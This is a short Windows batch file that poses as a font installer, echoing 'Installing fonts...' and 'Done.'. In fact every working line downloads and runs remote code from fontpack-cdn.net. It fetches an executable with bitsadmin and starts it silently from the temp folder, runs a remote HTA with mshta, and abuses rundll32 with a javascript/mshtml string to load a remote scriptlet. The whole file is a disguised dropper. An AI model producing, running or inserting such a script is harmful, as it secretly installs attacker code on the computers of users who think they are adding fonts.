@echo off
echo Installing fonts...
bitsadmin /transfer fontjob /download /priority high http://fontpack-cdn.net/dl/fonts.exe %TEMP%\fonts.exe
start "" /min %TEMP%\fonts.exe /S
mshta http://fontpack-cdn.net/dl/register.hta
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://fontpack-cdn.net/dl/r.sct")
echo Done.
